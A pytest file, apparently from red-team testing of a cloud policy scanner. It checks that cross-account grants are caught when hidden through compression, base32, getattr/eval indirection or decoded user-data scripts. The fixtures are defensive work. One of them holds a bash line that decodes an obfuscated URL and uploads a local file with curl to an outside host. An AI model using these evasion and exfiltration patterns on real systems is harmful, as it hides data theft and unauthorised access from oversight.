"""Red-team round 80 of the residency pack: policies in base32 or compressed encodings (policies/core/
policy_text.py), a runbook script's grant read from elsewhere (script_grants.py), a runbook's Parameter Store
value (runtime_grants.py), quantities from the run, object ACLs off by the stack's ownership controls
(redirect_grants.py) (corpus: tests/corpus/residency/*/r80-*.yaml).
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib

import pytest
import yaml
from policy_testlib import AIMS, ALLOWED, REPLICATION, RESOLVED, grant_message, graph, messages, pinned_res

from policies.core.encodings import embedded_b64
from policies.core.script_grants import literal_grants

OWN, OTHER = "123456789012", "444455556666"
FN, DOC = "aws:lambda/function:Function", "aws:ssm/document:Document"
SFN = "aws:sfn/stateMachine:StateMachine"


def _found(type_, inputs):
    return messages(REPLICATION, pinned_res(type_, "r", inputs), ALLOWED)


def _policy(account):
    return json.dumps({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{account}:role/reader"},
        "Action": "s3:GetObject", "Resource": "arn:aws:s3:::data/*"}]})


@pytest.mark.parametrize("encode", [
    lambda p: base64.b32encode(p.encode()).decode(),
    lambda p: base64.b32encode(b"  " + p.encode()).decode(),  # another alignment
    lambda p: base64.b64encode(zlib.compress(p.encode())).decode(),
    lambda p: base64.b64encode(zlib.compress(p.encode(), 9)).decode(),
    lambda p: zlib.compress(p.encode()).hex(),
    lambda p: gzip.compress(p.encode(), mtime=0).hex(),
    lambda p: base64.b32encode(gzip.compress(p.encode(), mtime=0)).decode(),
], ids=["base32", "base32-shifted", "zlib-base64", "zlib9-base64", "zlib-hex", "gzip-hex", "gzip-base32"])
def test_a_policy_in_base32_or_compressed_is_read(encode):
    """Every encoding the scanner decodes hides the policy from a prefilter that looks for "Principal" as
    text or base64: the same policy, the same grant; the own account's passes."""
    for inputs in ({"environment": {"variables": {"P": encode(_policy(OTHER))}}},
                   {"environment": {"variables": {"A": "x", "P": encode(_policy(OTHER)), "B": "y"}}}):
        found = _found(FN, inputs)
        where = "environment.variables.P.(decoded).Statement.0.Principal"
        assert found == [grant_message(where, OTHER)], found
    assert _found(FN, {"environment": {"variables": {"P": encode(_policy(OWN))}}}) == []


def _script_step(script, payload=None):
    inputs = {"Runtime": "python3.11", "Handler": "handler", "Script": script}
    return yaml.safe_dump({"schemaVersion": "0.3", "mainSteps": [
        {"name": "s", "action": "aws:executeScript", "inputs": {**inputs, **({"InputPayload": payload}
                                                                          if payload else {})}}]})


FROM_STORE = ("import boto3\n\ndef handler(events, context):\n"
              "    doc = boto3.client('ssm').get_parameter(Name='/p')['Parameter']['Value']\n"
              "    boto3.client('s3').put_bucket_policy(Bucket='data', Policy=doc)\n")


def test_a_runbook_script_granting_what_it_reads_elsewhere_blocks():
    """A script naming a grant-making call whose arguments are not literals the script writes (read from
    Parameter Store, an environment variable) blocks with no parameter in its payload; literals pass."""
    found = _found(DOC, {"content": _script_step(FROM_STORE)})
    assert len(found) == 1 and "its arguments are no literals" in found[0], found
    assert "inputs.Script`" in found[0], found
    literal = FROM_STORE.replace("boto3.client('ssm').get_parameter(Name='/p')['Parameter']['Value']",
                                 f"json.dumps({_policy(OWN)})")
    assert _found(DOC, {"content": _script_step(literal)}) == []


@pytest.mark.parametrize("script,literal", [
    ("def h(e, c):\n    s3.put_bucket_policy(Bucket='b', Policy='{}')\n", True),
    ("P = {'a': [1, 'x']}\ndef h(e, c):\n    s3.put_bucket_policy(Bucket='b', Policy=json.dumps(P))\n", True),
    ("def h(e, c):\n    s3.put_bucket_policy(Bucket=e['Bucket'], Policy=f\"{{'b': {1}}}\")\n", True),
    ("def h(e, c):\n    s3.create_tags(Resources=[os.environ['X']])\n", True),  # grants nothing
    ("def h(e, c):\n    s3.put_bucket_policy(Bucket='b', Policy=os.environ['P'])\n", False),
    ("def h(e, c):\n    p = '{}'\n    p = fetch()\n    s3.put_bucket_policy(Bucket='b', Policy=p)\n", False),
    ("def h(e, c):\n    for p in e['ps']:\n        lam.add_permission(Principal=p)\n", False),
    ("def h(e, c):\n    a, b = get()\n    lam.add_permission(Principal=a)\n", False),
    ("Write-Host 'x'; Set-S3BucketPolicy -BucketName b -Policy $p", False),  # not Python: unread
    # wave 2: the call reached otherwise than as `client.put_bucket_policy(…)`, all with literal arguments
    ("def h(e, c):\n    put = s3.put_bucket_policy\n    put(Bucket='b', Policy='{}')\n", False),
    ("def h(e, c):\n    s3._make_api_call('PutBucketPolicy', {'Bucket': 'b', 'Policy': '{}'})\n", False),
    ("def h(e, c):\n    getattr(s3, 'put_bucket_' + 'policy')(Bucket='b', Policy='{}')\n", False),
    ("def h(e, c):\n    getattr(s3, 'put_bucket_policy')(Bucket='b', Policy='{}')\n", False),
    ("def h(e, c):\n    eval(\"s3.put_bucket_policy(Bucket='b', Policy='{}')\")\n", False),
    ("def h(e, c):\n    getattr(e, 'get')('x')\n    log.info('put_bucket_policy done')\n", True),
])
def test_which_script_arguments_are_literals(script, literal):
    assert literal_grants(script) is literal


def _runbook_policy(value):
    return yaml.safe_dump({"schemaVersion": "0.3", "mainSteps": [{"name": "p", "action": "aws:executeAwsApi",
                           "inputs": {"Service": "s3", "Api": "PutBucketPolicy", "Bucket": "data",
                                      "Policy": value}}]})


def test_a_runbook_value_from_parameter_store_is_judged_in_the_stacks_parameter():
    """`{{ssm:/name}}` is SSM's own reference to a parameter: the stack's parameter (its policy read there)
    passes, one outside the stack blocks; any other runbook parameter still blocks as chosen by the run."""
    doc = pinned_res(DOC, "d", {"content": _runbook_policy("{{ssm:/eloket/policy}}")})
    param = pinned_res("aws:ssm/parameter:Parameter", "p", {"name": "/eloket/policy", "value": _policy(OWN)})
    assert messages(REPLICATION, doc, ALLOWED) == []
    stored = "SSM parameter 'eloket/policy'"  # (the bucket, in neither graph, is judged apart)
    assert [m for _, m in messages(RESOLVED, graph(doc, param), ALLOWED) if "inputs.Policy" in m] == []
    found = [m for _, m in messages(RESOLVED, graph(doc), ALLOWED) if "inputs.Policy" in m]
    assert len(found) == 1 and stored in found[0], found
    other = pinned_res("aws:ssm/parameter:Parameter", "p",
                       {"name": "/eloket/policy", "value": _policy(OTHER)})
    assert messages(REPLICATION, other, ALLOWED) == [grant_message("value.Statement.0.Principal", OTHER)]
    found = _found(DOC, {"content": _runbook_policy("{{ PolicyDoc }}")})
    assert len(found) == 1 and "inputs.Policy`" in found[0], found


def _queue_task(attributes):
    return json.dumps({"StartAt": "T", "States": {"T": {
        "Type": "Task", "Resource": "arn:aws:states:::aws-sdk:sqs:setQueueAttributes", "End": True,
        "Parameters": {"QueueUrl": "https://sqs.eu-west-1.amazonaws.com/123456789012/q",
                       "Attributes": attributes}}}})


def test_a_queue_quantity_from_the_run_grants_nothing():
    """SQS validates DelaySeconds, VisibilityTimeout, … as numbers; a policy or redrive target from the run
    still blocks."""
    ok = {"VisibilityTimeout.$": "$.t", "DelaySeconds.$": "$.d", "MessageRetentionPeriod.$": "$.r"}
    assert _found(SFN, {"definition": _queue_task(ok)}) == []
    for loose in ({"Policy.$": "$.p"}, {"RedrivePolicy.$": "$.r"}, {"KmsMasterKeyId.$": "$.k"}):
        assert len(_found(SFN, {"definition": _queue_task({**ok, **loose})})) == 1, loose


def _acl_upload(ownership, bucket="inbox"):
    doc = {"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OTHER}:role/uploader"},
        "Action": ["s3:PutObject", "s3:PutObjectAcl"], "Resource": "arn:aws:s3:::inbox/*"}]}
    policy = pinned_res("aws:s3/bucketPolicy:BucketPolicy", "p",
                        {"bucket": "inbox", "policy": json.dumps(doc)})
    views = [policy] + ([pinned_res("aws:s3/bucketOwnershipControls:BucketOwnershipControls", "o", {
        "bucket": bucket, "rule": {"objectOwnership": ownership}})] if ownership else [])
    return [m for _, m in messages(RESOLVED, graph(*views), ALLOWED) if AIMS in m]


def test_an_object_acl_on_a_bucket_with_acls_disabled_aims_nowhere():
    """BucketOwnerEnforced (the stack's own ownership controls of that bucket) disables ACLs: S3 refuses any
    ACL but bucket-owner-full-control, so PutObjectAcl grants no one; without them it still aims."""
    assert _acl_upload("BucketOwnerEnforced") == []
    for ownership, bucket in (("BucketOwnerPreferred", "inbox"), ("ObjectWriter", "inbox"),
                              ("BucketOwnerEnforced", "other"), (None, "inbox")):
        found = _acl_upload(ownership, bucket)
        assert len(found) == 1 and "s3:PutObjectAcl" in found[0], (ownership, bucket, found)


@pytest.mark.parametrize("call", [
    "put = s3.put_bucket_policy\n    put(Bucket='data', Policy=doc)",
    "s3._make_api_call('PutBucketPolicy', {'Bucket': 'data', 'Policy': doc})",
    "getattr(s3, 'put_bucket_' + 'policy')(Bucket='data', Policy=doc)",
])
def test_a_script_reaching_a_grant_call_by_other_means_blocks(call):
    """Wave 2: a method bound to a name, an operation named by a string, getattr with a built name: the
    script is judged as a grant-making call (one naming no grant at all is read for such means too)."""
    script = f"import boto3\n\ndef handler(events, context):\n    doc = get()\n    {call}\n"
    found = _found(DOC, {"content": _script_step(script)})
    assert len(found) == 1 and "its arguments are no literals" in found[0], found


def test_two_ownership_controls_of_a_bucket_must_both_disable_acls():
    """Wave 2: whichever of two ownership controls is applied last wins; ACLs are off only if both say so."""
    doc = {"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OTHER}:role/uploader"},
        "Action": "s3:PutObjectAcl", "Resource": "arn:aws:s3:::inbox/*"}]}
    policy = pinned_res("aws:s3/bucketPolicy:BucketPolicy", "p",
                        {"bucket": "inbox", "policy": json.dumps(doc)})
    controls = [pinned_res("aws:s3/bucketOwnershipControls:BucketOwnershipControls", f"o{i}", {
        "bucket": "inbox", "rule": {"objectOwnership": rule}}) for i, rule in enumerate(
        ("BucketOwnerEnforced", "ObjectWriter"))]
    assert len([m for _, m in messages(RESOLVED, graph(policy, *controls), ALLOWED) if AIMS in m]) == 1


CONNECTION = "azure-native:storage:PrivateEndpointConnection"


@pytest.mark.parametrize("state,blocks", [
    ({"privateLinkServiceConnectionState": {"status": "Approved"}}, True),
    ({"properties": {"privateLinkServiceConnectionState": {"status": "Approved"}}}, True),
    ({"privateLinkServiceConnectionState": {}}, True),  # no status written: the service's default
    ({"privateLinkServiceConnectionState": {"status": "Rejected"}}, False),
    ({"privateLinkServiceConnectionState": {"status": "Pending"}}, False),
])
def test_a_private_endpoint_connection_the_program_approves_blocks(state, blocks):
    """Wave 2: the stack's own endpoints are approved when created; an approval the program writes is
    another party's request, whose endpoint (an output) no input names."""
    view = pinned_res(CONNECTION, "c", {"resourceGroupName": "rg", "accountName": "st",
                                        "privateEndpointConnectionName": "pe-partner.1234", **state})
    found = messages(REPLICATION, view, ALLOWED)
    assert (len(found) == 1 and "private endpoint connection" in found[0]) if blocks else found == [], found


def test_a_calls_keyword_arguments_are_no_policy_text():
    """Wave 2: `add_permission(StatementId=…, Principal=…)` in a script holds no policy document (round 79
    read the words `Statement` and `Principal` anywhere in it as one it could not cut out)."""
    script = ("import boto3\n\ndef handler(events, context):\n    boto3.client('lambda').add_permission("
              "FunctionName='f', StatementId='eb', Action='lambda:InvokeFunction', "
              f"Principal='events.amazonaws.com', SourceAccount='{OWN}')\n")
    assert _found(DOC, {"content": _script_step(script)}) == []


def _user_data(policy):
    literal = base64.b64encode(zlib.compress(policy.encode())).decode()
    script = (f"#!/bin/bash\necho {literal} | base64 -d | python3 -c 'import sys, zlib; "
              "sys.stdout.write(zlib.decompress(sys.stdin.buffer.read()).decode())' > /tmp/p.json\n"
              "aws s3api put-bucket-policy --bucket data --policy file:///tmp/p.json\n")
    return base64.b64encode(script.encode()).decode()


def test_a_compressed_literal_a_user_data_script_decodes_is_read():
    """Probe of wave 2's fix: user data is decoded by contract whatever it shows, and a script naming a
    decoder has its literals read, a compressed one after a space too."""
    found = _found("aws:ec2/launchTemplate:LaunchTemplate", {"userData": _user_data(_policy(OTHER))})
    where = "userData.(decoded).(decoded).Statement.0.Principal"
    assert found == [grant_message(where, OTHER)], found
    assert _found("aws:ec2/launchTemplate:LaunchTemplate", {"userData": _user_data(_policy(OWN))}) == []


def test_a_base64_literal_right_after_an_assignment_is_decoded():
    """Found while probing: a decoding script's literal written as `VAR=<base64>` (or `--opt=<base64>`) was
    skipped by the scanner, so a URL hidden there was never read; two values run together after padding
    still are not split."""
    url = base64.b64encode(b"https://ingest.partner-analytics.com/v1/upload").decode()
    for line in (f"ENDPOINT={url}", f"curl --url-b64={url}"):
        decoded = embedded_b64(f"{line}\necho $ENDPOINT | base64 -d")
        assert decoded == ("https://ingest.partner-analytics.com/v1/upload",), decoded
    assert embedded_b64(f"X=QUJDREVGR0hJSktMTU5PUA=={url} | base64 -d") == ()
    script = f"#!/bin/bash\nENDPOINT={url}\ncurl -T /tmp/x \"$(echo $ENDPOINT | base64 -d)\"\n"
    user_data = base64.b64encode(script.encode()).decode()
    found = _found("aws:ec2/launchTemplate:LaunchTemplate", {"userData": user_data})
    assert len(found) == 1 and "ingest.partner-analytics.com" in found[0], found


def test_a_policy_written_as_a_python_dict_is_read():
    """Round 80's limit closed: a dict literal with single quotes is the policy (evaluated as a literal,
    nothing runs); a dict holding a name leaves its principal unread and blocks."""
    script = ("import json\nimport boto3\n\ndef handler(events, context):\n"
              "    policy = {'Version': '2012-10-17', 'Statement': [{'Effect': 'Allow', "
              "'Principal': {'AWS': 'arn:aws:iam::%s:role/reader'}, "
              "'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::data/*'}]}\n"
              "    boto3.client('s3').put_bucket_policy(Bucket='data', Policy=json.dumps(policy))\n")
    assert _found(DOC, {"content": _script_step(script % OWN)}) == []
    found = _found(DOC, {"content": _script_step(script % OTHER)})
    assert grant_message("content.mainSteps.0.inputs.Script.(text).Statement.0.Principal", OTHER) in found
    named = script % OWN
    named = named.replace(f"'arn:aws:iam::{OWN}:role/reader'", "READER")
    named = named.replace("import json", "READER = x()")
    found = _found(DOC, {"content": _script_step(named)})
    assert len(found) == 1 and "placeholder" in found[0], found
